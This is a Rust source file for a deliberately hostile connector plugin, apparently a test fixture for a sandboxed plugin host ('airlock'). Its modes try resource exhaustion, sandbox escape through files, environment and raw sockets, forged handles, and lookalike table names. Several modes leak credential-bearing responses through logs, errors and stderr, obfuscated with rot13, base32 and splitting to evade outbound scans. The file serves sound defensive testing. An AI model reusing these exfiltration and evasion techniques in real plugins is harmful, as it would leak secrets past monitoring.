//! Hostile plugin with many faces: `[source.options] mode = "..."` picks one attack on the
//! host (see `extract`). Probing modes report what they got as the attributes of the database
//! asset `probe` (`result`: `granted: ...` or `denied: ...`); attacking modes either run into a
//! host limit or return the host's refusal unchanged as the plugin's error. `sql-query` runs one
//! statement on the workflow's endpoint and reports the host's answer (see [`sql_query`]).

use std::io::{Read, Write};

use airlock_sdk::__private::airlock::connector::{
    credentials as raw_cred, emit as raw_emit, http as raw_http, log as raw_log, sql as raw_sql,
    types as raw_types,
};
use airlock_sdk::{AssetKind, Connector, Emitter, Error, PluginInfo, Scope};
use serde_json::{json, Value};

struct Suite;

fn opt_str<'a>(o: &'a Value, key: &str) -> &'a str {
    o[key].as_str().unwrap_or_default()
}

fn opt_u64(o: &Value, key: &str, default: u64) -> u64 {
    o[key].as_u64().unwrap_or(default)
}

fn outcome<T, E: std::fmt::Display>(r: Result<T, E>) -> String {
    match r {
        Ok(_) => "granted".to_string(),
        Err(e) => format!("denied: {e}"),
    }
}

/// Reports what a mode saw as the `probe` database asset, under `extra` (the asset contract
/// names no probe attributes, and drops keys it does not name).
fn probe(out: &mut Emitter, attrs: Value) -> Result<(), Error> {
    out.emit(AssetKind::Database, ["probe"], json!({ "extra": attrs }))
}

fn raw_asset(kind: AssetKind, path: &[&str], attributes_json: String) -> raw_types::Asset {
    raw_types::Asset {
        kind,
        path: path.iter().map(|s| s.to_string()).collect(),
        attributes_json,
    }
}

fn driver(name: &str) -> raw_sql::Driver {
    match name {
        "mysql" => raw_sql::Driver::Mysql,
        "sqlite" => raw_sql::Driver::Sqlite,
        _ => raw_sql::Driver::Postgres,
    }
}

/// Recurses without touching linear memory, so the engine's call stack is what overflows.
#[inline(never)]
fn deep(n: u64) -> u64 {
    if n == 0 {
        return 0;
    }
    deep(std::hint::black_box(n) - 1).wrapping_add(n)
}

/// The body of a request (`method`, default GET; `target` sets `X-Amz-Target`) through the
/// host's HTTP capability, with the workflow's credential.
fn fetch(o: &Value) -> Result<String, Error> {
    let cred = if o["credential"].as_bool().unwrap_or(false) {
        Some(raw_cred::get("source")?)
    } else {
        None
    };
    let client = raw_http::open(opt_str(o, "base"), cred.as_ref())?;
    let path = match opt_str(o, "path") {
        "" => "/",
        p => p,
    };
    let method = match opt_str(o, "method") {
        "" => "GET",
        m => m,
    };
    let headers = match opt_str(o, "target") {
        "" => Vec::new(),
        t => vec![("x-amz-target".to_string(), t.to_string())],
    };
    let request = raw_http::Request {
        method: method.into(),
        path_and_query: path.into(),
        headers,
        body: vec![0; opt_u64(o, "body_bytes", 0) as usize],
    };
    if o["stream"].as_bool().unwrap_or(false) {
        // Reads the body in pieces of `piece` bytes, so a reflected secret crosses reads.
        let (head, body) = client.send_streaming(&request)?;
        let piece = opt_u64(o, "piece", 7) as u32;
        let mut bytes = Vec::new();
        while let Some(chunk) = body.read(piece)? {
            bytes.extend(chunk);
        }
        let headers: Vec<String> = head
            .headers
            .iter()
            .map(|(k, v)| format!("{k}: {v}"))
            .collect();
        return Ok(format!(
            "HTTP {}: {} {}",
            head.status,
            headers.join(" "),
            String::from_utf8_lossy(&bytes)
        ));
    }
    let resp = client.send(&request)?;
    let headers: Vec<String> = resp
        .headers
        .iter()
        .map(|(k, v)| format!("{k}: {v}"))
        .collect();
    Ok(format!(
        "HTTP {}: {} {}",
        resp.status,
        headers.join(" "),
        String::from_utf8_lossy(&resp.body)
    ))
}

/// What a hostile author does to a secret it received so that no outbound scan knows it:
/// reversed, rot13, base32, swapped case, every byte `%XX`, and halves.
fn transforms(text: &str) -> Vec<(&'static str, String)> {
    let rot13: String = text
        .chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a' + 13) % 26) + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A' + 13) % 26) + b'A') as char,
            c => c,
        })
        .collect();
    let swapped: String = text
        .chars()
        .map(|c| {
            if c.is_ascii_lowercase() {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect();
    let pct: String = text.bytes().map(|b| format!("%{b:02X}")).collect();
    let half = text.len() / 2;
    let half = (0..=half)
        .rev()
        .find(|i| text.is_char_boundary(*i))
        .unwrap_or(0);
    vec![
        ("raw", text.to_string()),
        ("reversed", text.chars().rev().collect()),
        ("rot13", rot13),
        ("base32", base32(text.as_bytes())),
        ("swapcase", swapped),
        ("pct", pct),
        ("first-half", text[..half].to_string()),
        ("second-half", text[half..].to_string()),
    ]
}

/// RFC 4648 base32 without padding.
fn base32(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let (mut out, mut buffer, mut bits) = (String::new(), 0u32, 0u32);
    for &b in bytes {
        buffer = (buffer << 8) | b as u32;
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(ALPHABET[((buffer >> bits) & 31) as usize] as char);
        }
    }
    if bits > 0 {
        out.push(ALPHABET[((buffer << (5 - bits)) & 31) as usize] as char);
    }
    out
}

/// Emits every transform of `text` as its own table (`leak.t.<transform>`), the halves as two
/// fields of one asset, and one character per asset (`leak.c.<n>`, at most 64).
fn emit_transforms(out: &mut Emitter, text: &str) -> Result<(), Error> {
    emit_transform_assets(out, text)?;
    probe(out, json!({ "result": "transformed", "received": text }))
}

fn emit_transform_assets(out: &mut Emitter, text: &str) -> Result<(), Error> {
    let all = transforms(text);
    for (name, value) in &all {
        out.emit(
            AssetKind::Table,
            ["leak", "t", name],
            json!({ "comment": value }),
        )?;
    }
    let (a, b) = (&all[6].1, &all[7].1);
    out.emit(
        AssetKind::Table,
        ["leak", "t", "split"],
        json!({ "comment": a, "owner": b }),
    )?;
    for (i, c) in text.chars().take(64).enumerate() {
        let n = format!("{i:02}");
        out.emit(
            AssetKind::Table,
            ["leak", "c", &n],
            json!({ "comment": c.to_string() }),
        )?;
    }
    Ok(())
}

/// The WIT error kind and message.
fn error_parts(e: &Error) -> (&'static str, &str) {
    match e {
        Error::InvalidConfig(m) => ("invalid-config", m),
        Error::Denied(m) => ("denied", m),
        Error::Unavailable(m) => ("unavailable", m),
        Error::Source(m) => ("source", m),
        Error::Limit(m) => ("limit", m),
    }
}

fn sql_json(v: &raw_sql::SqlValue) -> Value {
    match v {
        raw_sql::SqlValue::Null => Value::Null,
        raw_sql::SqlValue::Boolean(b) => json!(b),
        raw_sql::SqlValue::Integer(i) => json!(i),
        raw_sql::SqlValue::Float(f) => json!(f),
        raw_sql::SqlValue::Text(t) => json!(t),
        raw_sql::SqlValue::Bytes(b) => json!(String::from_utf8_lossy(b)),
    }
}

/// The workflow's endpoint for `options.driver` (for SQLite `source.database`).
fn endpoint_of(config: &Value) -> raw_sql::Endpoint {
    let o = &config["options"];
    let drv = opt_str(o, "driver");
    if drv == "sqlite" {
        return raw_sql::Endpoint {
            driver: raw_sql::Driver::Sqlite,
            address: opt_str(config, "database").to_string(),
            database: None,
        };
    }
    raw_sql::Endpoint {
        driver: driver(drv),
        address: opt_str(config, "endpoint").to_string(),
        database: config["database"].as_str().map(str::to_string),
    }
}

/// `sql-query`: opens the workflow's endpoint (`source.endpoint`, or for SQLite
/// `source.database`) with the `source` credential (unless `credential = false`), runs the one
/// statement `options.statement` and reports on the `probe` asset: `stage` (`open`, `query`,
/// `rows` or `done`), `outcome` (`granted` or the WIT error kind), `message` and `rows` (at
/// most 200, as JSON text).
fn sql_query(config: &Value, out: &mut Emitter) -> Result<(), Error> {
    let o = &config["options"];
    let drv = opt_str(o, "driver");
    let failed = |out: &mut Emitter, stage: &str, e: Error| {
        let (kind, message) = error_parts(&e);
        probe(
            out,
            json!({ "stage": stage, "outcome": kind, "message": message }),
        )
    };
    let cred = if drv != "sqlite" && o["credential"].as_bool().unwrap_or(true) {
        Some(raw_cred::get("source")?)
    } else {
        None
    };
    let (address, database) = if drv == "sqlite" {
        (opt_str(config, "database").to_string(), None)
    } else {
        let database = match drv {
            "mysql" => o["database"].as_str().map(str::to_string),
            _ => o["database"]
                .as_str()
                .or(config["database"].as_str())
                .map(str::to_string),
        };
        (opt_str(config, "endpoint").to_string(), database)
    };
    let target = raw_sql::Endpoint {
        driver: driver(drv),
        address,
        database,
    };
    let conn = match raw_sql::open(&target, cred.as_ref()) {
        Ok(c) => c,
        Err(e) => return failed(out, "open", e),
    };
    let rows = match conn.query(opt_str(o, "statement"), &[]) {
        Ok(r) => r,
        Err(e) => return failed(out, "query", e),
    };
    let columns: Vec<String> = rows.columns().into_iter().map(|c| c.name).collect();
    if o["transforms"].as_bool().unwrap_or(false) {
        // Every text value of the first row, transformed as a hostile author would.
        let mut texts = Vec::new();
        if let Ok(Some(batch)) = rows.next_batch(1) {
            for v in batch.into_iter().flatten() {
                if let raw_sql::SqlValue::Text(t) = v {
                    texts.push(t);
                }
            }
        }
        let text = texts.join(" ");
        emit_transform_assets(out, &text)?;
        return probe(
            out,
            json!({ "stage": "done", "outcome": "granted", "columns": columns, "rows": rows_text(&[json!([text])]) }),
        );
    }
    let mut collected: Vec<Value> = Vec::new();
    loop {
        match rows.next_batch(100) {
            Ok(Some(batch)) if !batch.is_empty() => {
                for row in batch {
                    if collected.len() < 200 {
                        collected.push(Value::Array(row.iter().map(sql_json).collect()));
                    }
                }
            }
            Ok(_) => break,
            Err(e) => return failed(out, "rows", e),
        }
    }
    probe(
        out,
        json!({ "stage": "done", "outcome": "granted", "columns": columns, "rows": rows_text(&collected) }),
    )
}

/// Rows as JSON text: `extra` holds scalars, arrays and objects of scalars, not rows of rows.
fn rows_text(rows: &[Value]) -> String {
    Value::Array(rows.to_vec()).to_string()
}

/// Emits `db`, `db.main`, the table `db.main.audit` and its column, then `name` (a renamed
/// `audit`) with a column.
fn renamed_table(out: &mut Emitter, name: &str) -> Result<(), Error> {
    out.emit(AssetKind::Database, ["db"], json!({}))?;
    out.emit(AssetKind::Schema, ["db", "main"], json!({}))?;
    out.emit(
        AssetKind::Table,
        ["db", "main", "audit"],
        json!({ "comment": "who did what" }),
    )?;
    out.emit(AssetKind::Column, ["db", "main", "audit", "who"], json!({}))?;
    out.emit(
        AssetKind::Table,
        ["db", "main", name],
        json!({ "comment": "who did what" }),
    )?;
    out.emit(AssetKind::Column, ["db", "main", name, "who"], json!({}))
}

impl Connector for Suite {
    type Config = Value;

    fn describe() -> PluginInfo {
        PluginInfo::new("hostile-suite", "0.0.0", "one hostile behaviour per mode")
    }

    fn extract(config: Value, _: &Scope, out: &mut Emitter) -> Result<(), Error> {
        let o = &config["options"];
        match opt_str(o, "mode") {
            // --- CPU, memory, stack, tables -------------------------------------------------
            "loop-host-calls" => {
                let mut i = 0u64;
                loop {
                    raw_log::progress(i, None);
                    let _ = raw_cred::get("no-such-slot");
                    i = i.wrapping_add(1);
                }
            }
            "stack-overflow" => {
                let n = deep(std::hint::black_box(u64::MAX));
                probe(out, json!({ "depth": n }))
            }
            "big-alloc" => {
                let v = vec![0xA5u8; opt_u64(o, "bytes", 2 << 30) as usize];
                probe(out, json!({ "len": std::hint::black_box(&v).len() }))
            }
            "normal" => probe(out, json!({ "result": "ran" })),
            // Emits `options.value` as it is: a secret the operator put into the options (no
            // capability traffic, so only the outbound scan can catch it).
            "emit-option" => probe(out, json!({ "result": opt_str(o, "value") })),

            // --- output integrity -------------------------------------------------------------
            "huge-emit" => {
                let text = "x".repeat(opt_u64(o, "bytes", 32 << 20) as usize);
                let attrs = json!({ "blob": text }).to_string();
                raw_emit::emit(&[raw_asset(AssetKind::Database, &["db"], attrs)])
            }
            "emit-flood" => {
                let pad = "p".repeat(opt_u64(o, "pad", 0) as usize);
                for i in 0..opt_u64(o, "count", 1_000_000) {
                    out.emit(
                        AssetKind::Table,
                        ["db", "main", &format!("t{i}")],
                        json!({ "pad": pad }),
                    )?;
                }
                Ok(())
            }
            "giant-attribute" => {
                out.emit(AssetKind::Database, ["db"], json!({ "ok": true }))?;
                let text = "g".repeat(opt_u64(o, "bytes", 512 << 10) as usize);
                out.emit(
                    AssetKind::Table,
                    ["db", "main", "giant"],
                    json!({ "comment": text }),
                )?;
                out.emit(AssetKind::Table, ["db", "main", "small"], json!({}))
            }
            "giant-segment" => {
                let seg = "s".repeat(64 << 10);
                out.emit(AssetKind::Table, ["db", "main", &seg], json!({}))
            }
            "invalid-json" => raw_emit::emit(&[raw_asset(
                AssetKind::Table,
                &["db", "main", "t"],
                "{\"comment\": \"unterminated".into(),
            )]),
            "non-object-json" => raw_emit::emit(&[raw_asset(
                AssetKind::Table,
                &["db", "main", "t"],
                "[1, 2, 3]".into(),
            )]),
            "nested-json" => {
                let depth = opt_u64(o, "depth", 1_000_000) as usize;
                let attrs = format!("{{\"a\":{}{}}}", "[".repeat(depth), "]".repeat(depth));
                raw_emit::emit(&[raw_asset(AssetKind::Table, &["db", "main", "t"], attrs)])
            }
            // Unknown keys (one naming an excluded table), wrong types, a key given twice
            // and an `extra` nested too deep: the asset contract drops the keys and the
            // broken assets, and counts both.
            "break-contract" => {
                out.emit(AssetKind::Database, ["db"], json!({ "engine": "sqlite" }))?;
                out.emit(AssetKind::Schema, ["db", "main"], json!({}))?;
                out.emit(
                    AssetKind::Table,
                    ["db", "main", "kept"],
                    json!({
                        "comment": "kept, without its unknown keys",
                        "secret_payroll_q3": "smuggled",
                        "row_count_estimate": 3,
                        "freeform": { "any": ["thing"] },
                    }),
                )?;
                out.emit(
                    AssetKind::Column,
                    ["db", "main", "kept", "nullable_as_text"],
                    json!({ "nullable": "yes" }),
                )?;
                out.emit(
                    AssetKind::Column,
                    ["db", "main", "kept", "fractional_ordinal"],
                    json!({ "ordinal": 1.5 }),
                )?;
                out.emit(
                    AssetKind::Column,
                    ["db", "main", "kept", "fine"],
                    json!({ "ordinal": 1, "data_type": "text", "nullable": true }),
                )?;
                out.emit(
                    AssetKind::Table,
                    ["db", "main", "deep_extra"],
                    json!({ "extra": { "secret_payroll_q3": { "deeper": { "deepest": 1 } } } }),
                )?;
                raw_emit::emit(&[raw_asset(
                    AssetKind::Table,
                    &["db", "main", "twice"],
                    "{\"comment\": \"first\", \"comment\": \"second\"}".into(),
                )])
            }
            // Schemas `a` (tables t0..t9) and `b` (u0..u4); `drop_a = N` leaves out the
            // first N tables of `a`, `unreadable_b = true` reports `b` unreadable and leaves
            // out its tables (a connector whose catalog query for one schema failed).
            "partly-unreadable" => {
                out.emit(AssetKind::Database, ["db"], json!({}))?;
                out.emit(AssetKind::Schema, ["db", "a"], json!({}))?;
                for i in opt_u64(o, "drop_a", 0)..10 {
                    out.emit(AssetKind::Table, ["db", "a", &format!("t{i}")], json!({}))?;
                }
                if o["unreadable_b"].as_bool().unwrap_or(false) {
                    out.unreadable(
                        AssetKind::Schema,
                        ["db", "b"],
                        serde_json::Map::new(),
                        "permission denied for schema b",
                    )
                } else {
                    out.emit(AssetKind::Schema, ["db", "b"], json!({}))?;
                    for i in 0..5 {
                        out.emit(AssetKind::Table, ["db", "b", &format!("u{i}")], json!({}))?;
                    }
                    Ok(())
                }
            }
            "other-database" => {
                out.emit(AssetKind::Database, ["good"], json!({}))?;
                out.emit(AssetKind::Schema, ["good", "main"], json!({}))?;
                out.emit(AssetKind::Table, ["good", "main", "t"], json!({}))?;
                // Claims another database, directly and through a segment holding dots.
                out.emit(AssetKind::Database, ["other"], json!({}))?;
                out.emit(AssetKind::Table, ["other", "main", "secret"], json!({}))?;
                out.emit(AssetKind::Table, ["good.main", "x", "y"], json!({}))?;
                out.emit(AssetKind::Schema, ["good\"", "main"], json!({}))
            }
            "control-path" => out.emit(AssetKind::Table, ["db", "main", "t\0\n../x"], json!({})),
            // An excluded table emitted again under a name that looks the same, or the same
            // name with an invisible character in it; and a name holding a dot.
            "homoglyph-name" => renamed_table(out, "\u{0430}udit"),
            "zero-width-name" => renamed_table(out, "au\u{200B}dit"),
            "bidi-name" => renamed_table(out, "\u{202E}tidua"),
            "line-separator-name" => renamed_table(out, "audit\u{2028}"),
            "dotted-name" => {
                out.emit(AssetKind::Database, ["db"], json!({}))?;
                out.emit(AssetKind::Schema, ["db", "main"], json!({}))?;
                out.emit(AssetKind::Table, ["db", "main", "odd.name"], json!({}))?;
                out.emit(
                    AssetKind::Column,
                    ["db", "main", "odd.name", "id"],
                    json!({}),
                )?;
                out.emit(AssetKind::Schema, ["db", "other"], json!({}))?;
                out.emit(AssetKind::Table, ["db", "other", "t"], json!({}))
            }
            "wrong-path-shape" => out.emit(AssetKind::Table, ["only-one-segment"], json!({})),
            "abort-after-emits" => {
                for i in 0..20 {
                    out.emit(
                        AssetKind::Table,
                        ["db", "main", &format!("t{i}")],
                        json!({}),
                    )?;
                }
                out.flush()?;
                std::process::abort()
            }

            // --- ambient authority -------------------------------------------------------------
            "read-file" => {
                let path = opt_str(o, "path");
                let r = std::fs::read_to_string(path);
                let listing =
                    std::fs::read_dir(std::path::Path::new(path).parent().unwrap_or("/".as_ref()));
                probe(
                    out,
                    json!({
                        "result": match &r { Ok(text) => format!("granted: {text}"), Err(e) => format!("denied: {e}") },
                        "list_dir": outcome(listing),
                        "list_root": outcome(std::fs::read_dir("/")),
                        "list_cwd": outcome(std::fs::read_dir(".")),
                    }),
                )
            }
            "write-file" => {
                let r = std::fs::File::create(opt_str(o, "path"))
                    .and_then(|mut f| f.write_all(b"escaped"));
                probe(out, json!({ "result": outcome(r) }))
            }
            "env" => {
                let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                probe(out, json!({ "count": vars.len(), "vars": vars }))
            }
            "args" => {
                let args: Vec<String> = std::env::args().collect();
                probe(out, json!({ "count": args.len(), "args": args }))
            }
            "stdin" => {
                let mut buf = Vec::new();
                let r = std::io::stdin().read_to_end(&mut buf);
                probe(
                    out,
                    json!({ "bytes": buf.len(), "ok": r.is_ok(), "text": String::from_utf8_lossy(&buf) }),
                )
            }
            "tcp-connect" => {
                let r = std::net::TcpStream::connect(opt_str(o, "addr"))
                    .and_then(|mut s| s.write_all(b"escaped\n"));
                probe(out, json!({ "result": outcome(r) }))
            }
            "udp-send" => {
                let r = std::net::UdpSocket::bind("0.0.0.0:0")
                    .and_then(|s| s.send_to(b"escaped", opt_str(o, "addr")));
                probe(out, json!({ "result": outcome(r) }))
            }
            "tcp-listen" => {
                let r = std::net::TcpListener::bind("0.0.0.0:0");
                probe(out, json!({ "result": outcome(r) }))
            }
            "dns" => {
                let r = std::net::ToSocketAddrs::to_socket_addrs(&(opt_str(o, "name"), 80u16));
                probe(out, json!({ "result": outcome(r) }))
            }

            // --- capabilities -----------------------------------------------------------------
            "sql-open" => {
                let cred = if o["credential"].as_bool().unwrap_or(false) {
                    Some(raw_cred::get("source")?)
                } else {
                    None
                };
                let target = raw_sql::Endpoint {
                    driver: driver(opt_str(o, "driver")),
                    address: opt_str(o, "address").into(),
                    database: o["database"].as_str().map(str::to_string),
                };
                raw_sql::open(&target, cred.as_ref())?;
                probe(out, json!({ "result": "granted" }))
            }
            "sql-query" => sql_query(&config, out),
            "http-get" => {
                let body = fetch(o)?;
                probe(out, json!({ "result": format!("granted: {body}") }))
            }
            "other-slot" => {
                raw_cred::get(opt_str(o, "slot"))?;
                probe(out, json!({ "result": "granted" }))
            }
            "forge-connection" => {
                // SAFETY: deliberately unsound: this instance owns no such handle.
                let forged = unsafe { raw_sql::Connection::from_handle(4242) };
                let r = forged.query("SELECT 1", &[]);
                std::mem::forget(forged);
                r.map(|_| ())
            }
            "forge-client" => {
                // SAFETY: deliberately unsound: this instance owns no such handle.
                let forged = unsafe { raw_http::Client::from_handle(77) };
                let r = forged.send(&raw_http::Request {
                    method: "GET".into(),
                    path_and_query: "/".into(),
                    headers: Vec::new(),
                    body: Vec::new(),
                });
                std::mem::forget(forged);
                r.map(|_| ())
            }
            "connection-after-drop" => {
                let conn = raw_sql::open(
                    &raw_sql::Endpoint {
                        driver: raw_sql::Driver::Sqlite,
                        address: opt_str(o, "database").into(),
                        database: None,
                    },
                    None,
                )?;
                let index = conn.handle();
                drop(conn);
                // SAFETY: deliberately unsound: the index belongs to a dropped resource.
                let stale = unsafe { raw_sql::Connection::from_handle(index) };
                let r = stale.query("SELECT 1", &[]);
                std::mem::forget(stale);
                r.map(|_| ())
            }
            // Opens `count` connections to the workflow's endpoint (or SQLite file), runs
            // `statement` on each and holds the rows unread for `secs` seconds.
            "sql-stream-hoard" => {
                let endpoint = endpoint_of(&config);
                let cred = if opt_str(o, "driver") == "sqlite" {
                    None
                } else {
                    Some(raw_cred::get("source")?)
                };
                let mut held = Vec::new();
                let mut errors = Vec::new();
                for _ in 0..opt_u64(o, "count", 3) {
                    let conn = match raw_sql::open(&endpoint, cred.as_ref()) {
                        Ok(c) => c,
                        Err(e) => {
                            errors.push(format!("open: {}", error_parts(&e).1));
                            continue;
                        }
                    };
                    match conn.query(opt_str(o, "statement"), &[]) {
                        Ok(rows) => held.push((conn, rows)),
                        Err(e) => errors.push(format!("query: {}", error_parts(&e).1)),
                    }
                }
                std::thread::sleep(std::time::Duration::from_secs(opt_u64(o, "secs", 3)));
                probe(out, json!({ "held": held.len(), "errors": errors }))
            }
            // Opens each of `addresses` in turn `count` times in all, reads the first table name
            // of each and drops the connection; reports how often each name was seen.
            "sqlite-reopen" => {
                let addresses: Vec<String> = o["addresses"]
                    .as_array()
                    .map(|a| {
                        a.iter()
                            .filter_map(|v| v.as_str().map(str::to_string))
                            .collect()
                    })
                    .unwrap_or_default();
                let mut seen = serde_json::Map::new();
                let mut errors = serde_json::Map::new();
                for i in 0..opt_u64(o, "count", 1000) as usize {
                    let Some(address) = addresses.get(i % addresses.len().max(1)) else {
                        break;
                    };
                    let target = raw_sql::Endpoint {
                        driver: raw_sql::Driver::Sqlite,
                        address: address.clone(),
                        database: None,
                    };
                    let name = raw_sql::open(&target, None).and_then(|conn| {
                        let rows = conn.query(
                            "SELECT name FROM sqlite_schema WHERE type = 'table' LIMIT 1",
                            &[],
                        )?;
                        let batch = rows.next_batch(1)?.unwrap_or_default();
                        Ok(match batch.first().and_then(|r| r.first()) {
                            Some(raw_sql::SqlValue::Text(t)) => t.clone(),
                            _ => "(none)".to_string(),
                        })
                    });
                    let (map, key) = match name {
                        Ok(n) => (&mut seen, n),
                        Err(e) => {
                            let (kind, message) = error_parts(&e);
                            let head: String = message
                                .split(':')
                                .next()
                                .unwrap_or("")
                                .chars()
                                .take(60)
                                .collect();
                            (&mut errors, format!("{kind}: {head}"))
                        }
                    };
                    let n = map.get(&key).and_then(Value::as_u64).unwrap_or(0);
                    map.insert(key, json!(n + 1));
                }
                probe(out, json!({ "seen": seen, "errors": errors }))
            }
            // Opens connections until the host refuses one (at most `count`), keeping them all.
            "sql-open-flood" => {
                let endpoint = endpoint_of(&config);
                let cred = if opt_str(o, "driver") == "sqlite" {
                    None
                } else {
                    Some(raw_cred::get("source")?)
                };
                let mut held = Vec::new();
                let mut refusal = String::new();
                for _ in 0..opt_u64(o, "count", 1500) {
                    match raw_sql::open(&endpoint, cred.as_ref()) {
                        Ok(c) => held.push(c),
                        Err(e) => {
                            let (kind, message) = error_parts(&e);
                            refusal = format!("{kind}: {message}");
                            break;
                        }
                    }
                }
                probe(out, json!({ "opened": held.len(), "refusal": refusal }))
            }
            "handle-flood" => {
                let mut n = 0u64;
                let max = opt_u64(o, "count", u64::MAX);
                while n < max {
                    let h = raw_cred::get("source")?;
                    std::mem::forget(h);
                    n += 1;
                }
                probe(out, json!({ "handles": n }))
            }
            "sql-huge-batch" => {
                let conn = raw_sql::open(
                    &raw_sql::Endpoint {
                        driver: raw_sql::Driver::Sqlite,
                        address: opt_str(o, "database").into(),
                        database: None,
                    },
                    None,
                )?;
                let rows = conn.query(opt_str(o, "sql"), &[])?;
                let (mut batches, mut total, mut largest) = (0u64, 0u64, 0u64);
                while let Some(batch) = rows.next_batch(u32::MAX)? {
                    batches += 1;
                    total += batch.len() as u64;
                    largest = largest.max(batch.len() as u64);
                }
                probe(
                    out,
                    json!({ "batches": batches, "rows": total, "largest_batch": largest }),
                )
            }
            "sql-hoard" => {
                let conn = raw_sql::open(
                    &raw_sql::Endpoint {
                        driver: raw_sql::Driver::Sqlite,
                        address: opt_str(o, "database").into(),
                        database: None,
                    },
                    None,
                )?;
                let mut held = Vec::new();
                for _ in 0..opt_u64(o, "count", 10) {
                    held.push(conn.query(opt_str(o, "sql"), &[])?);
                }
                probe(out, json!({ "held": held.len() }))
            }

            // --- stdio, logs, progress ---------------------------------------------------------
            "stdout-flood" | "stderr-flood" => {
                let chunk = vec![b'A'; 4 << 10];
                let total = opt_u64(o, "bytes", 64 << 20);
                let mut written = 0u64;
                let mut error = None;
                while written < total {
                    let r = if opt_str(o, "mode") == "stdout-flood" {
                        std::io::stdout().write_all(&chunk)
                    } else {
                        std::io::stderr().write_all(&chunk)
                    };
                    if let Err(e) = r {
                        error = Some(e.to_string());
                        break;
                    }
                    written += chunk.len() as u64;
                }
                probe(out, json!({ "written": written, "error": error }))
            }
            "log-flood" => {
                let line = "L".repeat(opt_u64(o, "line_bytes", 100) as usize);
                for _ in 0..opt_u64(o, "count", 100_000) {
                    raw_log::log(raw_log::Level::Info, &line);
                }
                probe(out, json!({ "result": "logged" }))
            }
            // Emits db.main.keep_t and db.main.secret_customers, then warns about both: the
            // warning about the one the filters drop carries its "rows".
            "warn-about-dropped" => {
                out.emit(AssetKind::Table, ["db", "main", "keep_t"], json!({}))?;
                out.emit(
                    AssetKind::Table,
                    ["db", "main", "secret_customers"],
                    json!({}),
                )?;
                out.warn("keep_t looks fine".to_string());
                out.warn(
                    "SECRET_CUSTOMERS rows: Alice Example <alice@example.com>, Bob".to_string(),
                );
                probe(out, json!({ "result": "warned" }))
            }
            // Carries `name` (a table the filters exclude) through every string the host
            // writes into the run's log: a refused statement on it, a denied request to a host
            // named after it, a warning about it and, with `fail = true`, its own error.
            "smuggle-names" => {
                let name = opt_str(o, "name");
                if let Ok(conn) = raw_sql::open(&endpoint_of(&config), None) {
                    let _ = conn.query(&format!("SELECT * FROM {name}"), &[]);
                }
                let _ = raw_http::open(
                    &format!("https://{}.example.com/", name.replace('_', "-")),
                    None,
                );
                out.emit(AssetKind::Database, ["db"], json!({}))?;
                out.emit(AssetKind::Schema, ["db", "main"], json!({}))?;
                out.emit(AssetKind::Table, ["db", "main", "keep_t"], json!({}))?;
                out.emit(AssetKind::Table, ["db", "main", name], json!({}))?;
                out.warn(format!("{name} holds the salaries"));
                if o["fail"].as_bool().unwrap_or(false) {
                    return Err(Error::Source(format!("gave up reading {name}")));
                }
                Ok(())
            }
            "warning-flood" => {
                let line = opt_str(o, "text").repeat(opt_u64(o, "repeat", 1) as usize);
                for i in 0..opt_u64(o, "count", 50_000) {
                    out.warn(format!("{i}: {line}"));
                }
                probe(out, json!({ "result": "warned" }))
            }
            "progress-spam" => {
                for i in 0..opt_u64(o, "count", 1_000_000) {
                    raw_log::progress(i, Some(u64::MAX));
                }
                probe(out, json!({ "result": "done" }))
            }
            "huge-error" => Err(Error::Source(format!(
                "\x1b[2J\x1b[31mforged\nERROR host: {}",
                "e".repeat(opt_u64(o, "bytes", 1 << 20) as usize)
            ))),

            // --- exfiltration of what a source reflected --------------------------------------
            "leak" => {
                // One line, so that every place quoting it (log, stderr tail) has all of it.
                let body = fetch(o)?.replace(['\r', '\n'], " ");
                match opt_str(o, "via") {
                    "log" => {
                        raw_log::log(raw_log::Level::Error, &format!("leaking {body}"));
                        probe(out, json!({ "result": "logged" }))
                    }
                    "error" => Err(Error::Source(format!("leaking {body}"))),
                    "emit" => probe(out, json!({ "result": body })),
                    // Everything after `authorization: Bearer ` (or the whole text).
                    "transforms" => {
                        let lower = body.to_ascii_lowercase();
                        let token = match lower.find("bearer ") {
                            Some(i) => body[i + 7..].split_whitespace().next().unwrap_or(""),
                            None => body.as_str(),
                        };
                        emit_transforms(out, token)
                    }
                    "panic" => panic!("leaking {body}"),
                    "stderr" => {
                        eprintln!("leaking {body}");
                        Err(Error::Source("see stderr".into()))
                    }
                    other => Err(Error::InvalidConfig(format!("unknown via `{other}`"))),
                }
            }

            // --- waiting ---------------------------------------------------------------------
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(opt_u64(o, "secs", 3600)));
                probe(out, json!({ "result": "woke up" }))
            }

            other => Err(Error::InvalidConfig(format!("unknown mode `{other}`"))),
        }
    }
}

airlock_sdk::export_connector!(Suite);
